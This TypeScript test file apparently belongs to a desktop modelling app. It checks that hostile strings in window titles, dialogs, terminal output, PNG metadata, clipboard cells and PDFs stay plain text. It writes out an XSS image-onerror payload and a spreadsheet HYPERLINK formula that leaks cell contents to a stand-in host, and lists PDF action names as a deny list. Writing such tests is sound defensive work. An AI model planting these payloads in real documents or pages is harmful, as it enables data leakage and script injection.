/**
 * S1 where no page is needed: each string in the window's title, the question before closing, the terminal, a picture's
 * metadata, a PDF and the clipboard's cells. It stays text: no line, cell, control sequence or direction of its own.
 */
import { afterAll, expect, test } from 'vitest';
import { ClosePrompt } from '../../electron/main/windows/close-prompt';
import type { Box } from '../../electron/main/windows/close-prompt';
import { cleanTitle } from '../../electron/main/windows/clean-title';
import type { PageLink } from '../../electron/main/windows/page-link';
import { createLink, readLink, writeLink } from '../../engine/output/chart/chart-link';
import { writeTabs } from '../../engine/output/chart/table';
import { DEFAULT_OPTIONS } from '../../engine/output/panes/plot-options';
import type { Drawing } from '../../engine/output/drawing/drawing';
import { writePdf } from '../../engine/output/pdf/write-pdf';
import { addPngNotes, readPngNotes } from '../../engine/output/png/png-chunks';
import { createBody, createJoint, createProject } from '../../engine/model/defaults';
import { writeProject } from '../../engine/model/file/write-project';
import { formatTsv, parseTsv } from '../../renderer/document/tables/tsv';
import { Chance } from '../support/chance';
import { FONTS } from '../support/fonts';
import { pdfNames } from '../support/pdf-names';
import { readPdf } from '../support/read-pdf';
import { FIRST_SEED, patience, repetitions, tell } from '../support/tier';
import { kempe } from '../unit/cli/capture';
import { HOSTILE_STRINGS, hostileString } from './strings';

const COUNT = repetitions('S1', 120, 10_000);
const STRINGS = Array.from({ length: COUNT }, (_, i) =>
  i < HOSTILE_STRINGS.length ? HOSTILE_STRINGS[i]! : hostileString(new Chance(FIRST_SEED + i)),
);
const TIMEOUT = patience(COUNT, 100);
const DIRECTION = /[\u202a-\u202e\u2066-\u2069]/;
/** What a title, a box or a terminal may be told. */
const isPlain = (text: string): boolean => !/\p{Cc}|[\u2028\u2029]/u.test(text) && !DIRECTION.test(text);

let cells = 0;
let broken = 0;
afterAll(() =>
  tell(
    'S1',
    cells,
    `${COUNT} strings in the sinks that need no page: ${broken} cells in which one is more than text`,
  ),
);

/** The strings for which a sink does something else than to show them. */
async function check(fault: (text: string) => string | null | Promise<string | null>): Promise<void> {
  const wrong: string[] = [];
  for (const text of STRINGS) {
    cells += 1;
    const found = await fault(text);
    if (found === null) continue;
    broken += 1;
    if (wrong.length < 10) wrong.push(`${JSON.stringify(text.slice(0, 80))}: ${found}`);
  }
  expect(wrong).toEqual([]);
}

test('the title of a window', { timeout: TIMEOUT }, () =>
  check((text) => {
    const title = cleanTitle(text);
    return isPlain(title) && title.length <= 200 ? null : JSON.stringify(title);
  }),
);

test('the question before closing', { timeout: TIMEOUT }, () =>
  check(async (text) => {
    let asked: Box | null = null;
    const silence = () => new Promise<never>(() => undefined);
    const link = { ask: () => Promise.resolve(true), silence } as unknown as PageLink;
    const prompt = new ClosePrompt({
      link,
      state: () => ({ name: text, dirty: true, draft: false }) as never,
      box: (box) => ((asked = box), Promise.resolve(2)),
      hasPage: () => true,
      onGivenUp: () => undefined,
    });
    await prompt.mayClose();
    const { message, detail, buttons } = asked! as Box;
    return isPlain(message + detail) && buttons.length === 3 && message.length < 300 ? null : message;
  }),
);

/** A file whose records all have this name; written past the app's own checks. */
function fileOf(name: string): string {
  const project = createProject('Model');
  project.bodies = [createBody({ id: 'rod', name: 'NAME' })];
  project.joints = [createJoint({ id: 'pin', name: 'NAME too', bodyB: 'rod', bodyA: 'NOWHERE' })];
  const inside = JSON.stringify(name).slice(1, -1);
  return writeProject(project).replaceAll('NAME', () => inside);
}

test('the terminal, of a file that is good and of one that is not', { timeout: TIMEOUT }, () =>
  check(async (text) => {
    for (const file of [fileOf(text).replace('NOWHERE', 'ground'), fileOf(text)]) {
      const { out, err, status } = await kempe(['check', '-'], file);
      if (!isPlain((out + err).replaceAll('\n', '')))
        return `raw: ${JSON.stringify((out + err).slice(0, 300))}`;
      if (status > 1 || out + err === '') return `status ${status}`;
    }
    return null;
  }),
);

const PIXEL = Buffer.from(
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
  'base64',
);

test('what a picture says of itself', { timeout: TIMEOUT }, () =>
  check((text) => {
    const project = createProject(text);
    const spec = { title: text === '' ? null : text, series: [text], options: DEFAULT_OPTIONS, window: null };
    const metadata = writeLink(createLink({ project, digest: text }, [spec], null));
    if (!/^[\x20-\x7e]*$/.test(metadata)) return 'not printable ASCII';
    const read = readPngNotes(addPngNotes(new Uint8Array(PIXEL), { density: 1000, metadata }));
    if (read !== metadata) return 'came back as something else';
    const link = readLink(read);
    return link?.project.name === text && link.charts[0]?.series[0] === text ? null : 'names something else';
  }),
);

test('cells of a chart on the clipboard', { timeout: TIMEOUT }, () =>
  check((text) => {
    const channels = [
      { label: text, unit: 'N' },
      { label: 'F', unit: text },
    ];
    const table = {
      channels,
      time: [0, 1],
      columns: [
        [1, -2],
        [NaN, 3],
      ],
      count: 2,
    };
    const lines = writeTabs(table as never, 10).split('\r\n');
    const rows = lines.slice(0, -1).map((line) => line.split('\t'));
    if (rows.length !== 3 || rows.some((row) => row.length !== 3)) return `${rows.length} rows`;
    if (rows[0]!.some((cell) => /^\s*[=+\-@]/.test(cell))) return `a formula: ${rows[0]!.join()}`;
    return isPlain(rows[0]!.join(' ')) ? null : JSON.stringify(rows[0]);
  }),
);

test('cells of a table of records on the clipboard', { timeout: TIMEOUT }, () =>
  check((text) => {
    const rows = [
      [text, 'b'],
      ['c', text],
    ];
    const back = parseTsv(formatTsv(rows));
    return JSON.stringify(back) === JSON.stringify(rows) ? null : JSON.stringify(back);
  }),
);

/** What makes a reader of PDF act. */
const ACTIONS = [
  ...['JavaScript', 'JS', 'OpenAction', 'AA', 'A', 'Action', 'URI', 'Launch', 'GoToR', 'Named'],
  ...['SubmitForm', 'ImportData', 'AcroForm', 'XFA', 'RichMedia', 'EmbeddedFile', 'EmbeddedFiles'],
];

test('a PDF, in its text, its title and its metadata', { timeout: TIMEOUT }, async () => {
  const perPage = 40;
  // a hundred pages are a document; more prove nothing new
  const strings = STRINGS.slice(0, 100 * perPage);
  const pages = Array.from({ length: Math.ceil(strings.length / perPage) }, (_, page): Drawing => {
    const own = strings.slice(page * perPage, (page + 1) * perPage);
    const items = own.map((text, i) => ({
      ...{ kind: 'text' as const, x: 10, y: 10 + 12 * i, text: `${text} end`, size: 8, color: '#000000' },
    }));
    return { width: 600, height: 600, background: null, items };
  });
  cells += strings.length;
  const title = STRINGS.slice(0, 100).join(' ');
  const metadata = writeLink(createLink({ project: createProject(title), digest: title }, [], null));
  const text = { title, subject: title, program: 'Kempe', createdAt: new Date(0), metadata };
  const bytes = await writePdf(pages, FONTS, text);
  const names = await pdfNames(bytes);
  expect(names).toContain('Catalog');
  expect(ACTIONS.filter((name) => names.has(name))).toEqual([]);
  const read = await readPdf(bytes);
  expect(read.pages).toHaveLength(pages.length);
  for (const { text: shown } of read.pages) expect(DIRECTION.test(shown)).toBe(false);
  const shown = read.pages.map((page) => page.text).join('\n');
  for (const name of ['<img src=x onerror="window.__canary=1">', '=HYPERLINK("https://example.com/?"&A1)'])
    expect(shown).toContain(name);
});
